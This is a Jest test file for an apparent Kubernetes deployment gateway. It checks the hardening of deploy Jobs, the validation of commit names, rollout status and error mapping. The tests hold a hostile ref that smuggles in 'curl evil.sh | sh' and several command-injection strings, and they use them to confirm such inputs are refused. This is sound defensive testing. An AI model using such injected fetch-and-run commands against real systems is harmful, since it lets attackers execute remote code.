import { describe, expect, it } from '@jest/globals';
import { UnrecoverableError } from 'bullmq';
import { ApiException, type V1Deployment } from '@kubernetes/client-node';
import { buildDeployJob, deployJobName, jobEnd, labelValue } from '../../../worker/jobs/deploy.js';
import { pausedReason, rolloutState, SCALED_TO_ZERO } from '../../../worker/jobs/restart.js';
import { describeRequester, eventName, eventNote } from '../../../worker/events.js';
import { k8sFailure, rfc3339 } from '../../../worker/k8s.js';
import { inventorySchema } from '../../../src/shared/inventory.js';

/** The pure parts of the Kubernetes jobs: the deploy Job object, its name, rollout status, error mapping. */
const project = inventorySchema.parse({
  projects: {
    'group/shop': {
      namespace: 'shop-deploy',
      serviceAccountName: 'deployer',
      image: 'registry.example/deploy:1',
      command: ['/bin/deploy', '--from-env'],
      env: { STAGE: 'prod', OPSGATE_REF: 'refs/heads/attacker', OPSGATE_COMMIT_SHA: 'f00dbad' },
      activeDeadlineSeconds: 600,
    },
  },
}).projects['group/shop']!;

describe('deploy Job', () => {
  const hostileRef = 'refs/heads/main; curl evil.sh | sh $(id)';
  const job = buildDeployJob({
    name: 'opsgate-deploy-x',
    project: 'group/shop',
    ref: hostileRef,
    auditId: 'req_01H:abc/def',
    requestedBy: 'scm',
    queueJobId: '42',
    eventId: 'scm:group/shop:refs/heads/main:abc',
    sha: 'abc',
    entry: project,
  });
  const pod = job.spec!.template.spec!;
  const container = pod.containers[0]!;

  it('runs under the restricted ServiceAccount without a mounted token, bounded in time', () => {
    expect(job.metadata?.namespace).toBe('shop-deploy');
    expect(pod.serviceAccountName).toBe('deployer');
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.restartPolicy).toBe('Never');
    expect(job.spec?.activeDeadlineSeconds).toBe(600);
    expect(job.spec?.backoffLimit).toBe(0);
    expect(job.spec?.ttlSecondsAfterFinished).toBe(86400);
  });

  it('has a hardened security context', () => {
    expect(pod.securityContext).toEqual({ runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } });
    expect(container.securityContext).toMatchObject({
      runAsNonRoot: true,
      allowPrivilegeEscalation: false,
      readOnlyRootFilesystem: true,
      privileged: false,
      capabilities: { drop: ['ALL'] },
      seccompProfile: { type: 'RuntimeDefault' },
    });
  });

  it('passes project and ref only as environment variables, never in the command', () => {
    expect(container.command).toEqual(['/bin/deploy', '--from-env']);
    expect(container.args).toBeUndefined();
    const env = Object.fromEntries((container.env ?? []).map((e) => [e.name, e.value]));
    expect(env.OPSGATE_PROJECT).toBe('group/shop');
    expect(env.OPSGATE_REF).toBe(hostileRef);
    expect(env.STAGE).toBe('prod');
    // The inventory cannot shadow the reserved variables.
    expect((container.env ?? []).filter((e) => e.name === 'OPSGATE_REF')).toHaveLength(1);
    // The pushed commit from the job data, never the inventory's.
    expect(env.OPSGATE_COMMIT_SHA).toBe('abc');
    expect((container.env ?? []).filter((e) => e.name === 'OPSGATE_COMMIT_SHA')).toHaveLength(1);
    expect(JSON.stringify([container.command, container.args])).not.toContain('curl');
  });

  it('is labelled for audit with valid label values', () => {
    expect(job.metadata?.labels).toEqual({
      'app.kubernetes.io/name': 'opsgate-deploy',
      'app.kubernetes.io/managed-by': 'opsgate',
      'opsgate.io/audit-id': 'req_01H-abc-def',
    });
    expect(job.spec?.template.metadata?.labels).toEqual(job.metadata?.labels);
    expect(job.metadata?.annotations?.['opsgate.io/ref']).toBe(hostileRef);
  });

  it('gives the Job only a commit of a safe form; any other is refused for good (UnrecoverableError) with the reason', () => {
    const build = (sha: string) =>
      buildDeployJob({
        name: 'opsgate-deploy-x',
        project: 'group/shop',
        ref: 'refs/heads/main',
        auditId: 'a',
        requestedBy: 'scm',
        queueJobId: '1',
        sha,
        entry: project,
      });
    for (const sha of ['6113728f27ae82c7b1a177c8d03f9e96e0adf246', 'v1.2.3', 'build_42-rc.1', 'HEAD', 'x'.repeat(255)]) {
      const env = build(sha).spec!.template.spec!.containers[0]!.env ?? [];
      expect(env.find((e) => e.name === 'OPSGATE_COMMIT_SHA')?.value).toBe(sha);
    }
    for (const sha of ['--orphan=x', '-b', 'HEAD~3', 'main@{1}', 'a b', 'a;b', '$(id)', '.hidden', '_x', 'a/b', 'x'.repeat(256), '']) {
      let thrown: unknown;
      try {
        build(sha);
      } catch (err) {
        thrown = err;
      }
      expect(thrown).toBeInstanceOf(UnrecoverableError);
      expect((thrown as Error).message).toMatch(
        /^commit ".*" is not a safe commit name for the deploy Job: it must start with a letter or digit and hold only letters, digits, "\.", "_" and "-" \(at most 255 characters\)$/,
      );
    }
    expect(() => build('--orphan=x')).toThrow('commit "--orphan=x" is not a safe commit name for the deploy Job');
  });

  it('label values are <= 63 chars and alphanumeric at both ends', () => {
    expect(labelValue('-abc-')).toBe('abc');
    expect(labelValue('x'.repeat(80))).toHaveLength(63);
    expect(labelValue('a b/c')).toBe('a-b-c');
  });

  it('the Job name is deterministic per queue job, distinct across jobs, and a valid DNS label', () => {
    const a = deployJobName('17', 'audit-1', 'Group/Shop_Frontend');
    expect(deployJobName('17', 'audit-1', 'Group/Shop_Frontend')).toBe(a);
    expect(deployJobName('18', 'audit-1', 'Group/Shop_Frontend')).not.toBe(a);
    expect(deployJobName('17', 'audit-2', 'Group/Shop_Frontend')).not.toBe(a);
    expect(a).toMatch(/^opsgate-deploy-group-shop-frontend-[0-9a-f]{12}$/);
    for (const p of ['x'.repeat(255), '---', 'ÄÖÜ', 'a.b.c']) {
      const n = deployJobName('1', 'a', p);
      expect(n.length).toBeLessThanOrEqual(63);
      expect(n).toMatch(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/);
    }
  });
});

describe("a deploy Job's end", () => {
  const withConditions = (...types: Array<[type: string, reason?: string]>) => ({
    status: { conditions: types.map(([type, reason]) => ({ type, status: 'True', ...(reason ? { reason } : {}) })) },
  });

  it('is its terminal condition, set once its pods terminated, not the earlier SuccessCriteriaMet or FailureTarget', () => {
    expect(jobEnd({})).toEqual({ done: false });
    expect(jobEnd(withConditions(['SuccessCriteriaMet']))).toEqual({ done: false });
    expect(jobEnd(withConditions(['FailureTarget', 'DeadlineExceeded']))).toEqual({ done: false });
    expect(jobEnd(withConditions(['SuccessCriteriaMet'], ['Complete']))).toEqual({ done: true, succeeded: true, message: 'completed' });
    expect(jobEnd(withConditions(['FailureTarget', 'DeadlineExceeded'], ['Failed', 'DeadlineExceeded']))).toEqual({
      done: true,
      succeeded: false,
      message: 'DeadlineExceeded',
    });
    expect(jobEnd({ status: { conditions: [{ type: 'Complete', status: 'False' }] } })).toEqual({ done: false });
  });
});

describe('rollout status (kubectl rollout status semantics)', () => {
  const dep = (spec: number, status: Record<string, unknown>, generation = 2): V1Deployment => ({
    metadata: { generation },
    spec: { replicas: spec, selector: {}, template: {} },
    status,
  });

  it('waits for the new generation to be observed', () => {
    expect(rolloutState(dep(2, { observedGeneration: 1, updatedReplicas: 2, replicas: 2, availableReplicas: 2 })).done).toBe(false);
  });
  it('waits for updated, then old replicas to go, then availability', () => {
    expect(rolloutState(dep(3, { observedGeneration: 2, updatedReplicas: 1, replicas: 4, availableReplicas: 3 })).message).toBe(
      '1 of 3 updated replicas are available',
    );
    expect(rolloutState(dep(3, { observedGeneration: 2, updatedReplicas: 3, replicas: 4, availableReplicas: 3 })).message).toBe(
      '1 old replicas are pending termination',
    );
    expect(rolloutState(dep(3, { observedGeneration: 2, updatedReplicas: 3, replicas: 3, availableReplicas: 2 })).message).toBe(
      '2 of 3 updated replicas are available',
    );
  });
  it('is done when all desired replicas are updated and available', () => {
    const s = rolloutState(dep(3, { observedGeneration: 2, updatedReplicas: 3, replicas: 3, availableReplicas: 3 }));
    expect(s).toMatchObject({ done: true, desired: 3, updated: 3, available: 3 });
  });
  it('a Deployment scaled to 0 is done once the new generation is observed, and says no pod was restarted', () => {
    expect(rolloutState(dep(0, { observedGeneration: 1 })).done).toBe(false);
    expect(rolloutState(dep(0, { observedGeneration: 2 }))).toMatchObject({ done: true, desired: 0, message: SCALED_TO_ZERO });
    expect(SCALED_TO_ZERO).toMatch(/scaled to 0 replicas: no pod was restarted/);
  });
  it("a paused Deployment's refusal uses kubectl's words", () => {
    expect(pausedReason('shop', 'checkout')).toBe(
      'deployments.apps "checkout" (namespace shop) can\'t restart paused deployment (run rollout resume first)',
    );
  });
  it('reports a rollout past its progress deadline as failed', () => {
    const s = rolloutState(
      dep(2, {
        observedGeneration: 2,
        updatedReplicas: 1,
        replicas: 2,
        conditions: [{ type: 'Progressing', status: 'False', reason: 'ProgressDeadlineExceeded' }],
      }),
    );
    expect(s).toMatchObject({ done: false, failed: true });
  });
});

describe('Kubernetes error mapping', () => {
  const api = (code: number) => new ApiException(code, `HTTP-Code: ${code}`, { kind: 'Status', message: `m${code}` }, {});
  it('401/403/404/422 are unrecoverable, 409 too unless handled, 429/5xx/network are retried', () => {
    expect(k8sFailure(api(401), 'Deployment a/b', 'patch')).toBeInstanceOf(UnrecoverableError);
    expect(k8sFailure(api(403), 'Deployment a/b', 'patch').message).toBe(
      'Kubernetes API forbids the worker to patch Deployment a/b (403 Forbidden); grant its ServiceAccount the RBAC permission: m403',
    );
    expect(k8sFailure(api(404), 'Deployment a/b', 'patch').message).toBe('Deployment a/b not found (404): m404');
    expect(k8sFailure(api(404), 'x', 'read')).toBeInstanceOf(UnrecoverableError);
    expect(k8sFailure(api(422), 'x', 'create')).toBeInstanceOf(UnrecoverableError);
    for (const code of [429, 500, 503]) expect(k8sFailure(api(code), 'x', 'read')).not.toBeInstanceOf(UnrecoverableError);
    const net = Object.assign(new TypeError('fetch failed'), { cause: Object.assign(new Error('connect'), { code: 'ECONNRESET' }) });
    const mapped = k8sFailure(net, 'x', 'read');
    expect(mapped).not.toBeInstanceOf(UnrecoverableError);
    expect(mapped.message).toBe('Kubernetes API unreachable while trying to read x: ECONNRESET');
    expect(k8sFailure(new Error('HTTP protocol is not allowed when skipTLSVerify is not set or false'), 'x', 'read')).toBeInstanceOf(
      UnrecoverableError,
    );
  });
  it('restartedAt is RFC 3339 like kubectl writes it', () => {
    expect(rfc3339(new Date('2026-11-23T02:30:05.123Z'))).toBe('2026-11-23T02:30:05Z');
  });
});

describe('Kubernetes Events (worker/events.ts)', () => {
  const base = { requestedBy: 'bearer:0123456789ab', auditId: 'req-1', queueJobId: 'restart-abc' };
  it('the note names the principal key id, the audit id and the job id; bounded to 1 kB', () => {
    expect(eventNote({ ...base, reason: 'OpsgateRestart' })).toBe(
      'rollout restart requested by bearer:0123456789ab (audit req-1, job restart-abc)',
    );
    expect(eventNote({ ...base, reason: 'OpsgateDeploy', detail: 'group/app refs/heads/main' })).toBe(
      'deploy requested by bearer:0123456789ab (audit req-1, job restart-abc): group/app refs/heads/main',
    );
    expect(eventNote({ ...base, reason: 'OpsgateRestartRefused', detail: 'x'.repeat(5000) }).length).toBe(1024);
  });
  it('the requester is named with the owner and the credential id the principal does not already say', () => {
    expect(
      describeRequester({ requested_by: 'key:0123456789ab', requested_owner: 'env:0123456789ab', requested_credential: '0123456789ab' }),
    ).toBe('key:0123456789ab (owner env:0123456789ab)');
    expect(describeRequester({ requested_by: 'key:alice-ci', requested_owner: 'alice', requested_credential: 'fedcba987654' })).toBe(
      'key:alice-ci (owner alice, credential fedcba987654)',
    );
    expect(describeRequester({ requested_by: 'webhook:github', requested_owner: 'webhook:github' })).toBe('webhook:github');
    expect(describeRequester({ requested_by: 'key:old-job' })).toBe('key:old-job');
  });
  it('the name is deterministic per queue job and reason (a retried attempt finds its own Event)', () => {
    const regarding = { apiVersion: 'apps/v1', kind: 'Deployment', name: 'checkout', namespace: 'shop' };
    const a = eventName({ regarding, reason: 'OpsgateRestart', queueJobId: '1' });
    expect(a).toMatch(/^checkout\.opsgate-[0-9a-f]{12}$/);
    expect(eventName({ regarding, reason: 'OpsgateRestart', queueJobId: '1' })).toBe(a);
    expect(eventName({ regarding, reason: 'OpsgateRestart', queueJobId: '2' })).not.toBe(a);
    expect(eventName({ regarding, reason: 'OpsgateRestartRefused', queueJobId: '1' })).not.toBe(a);
  });
});
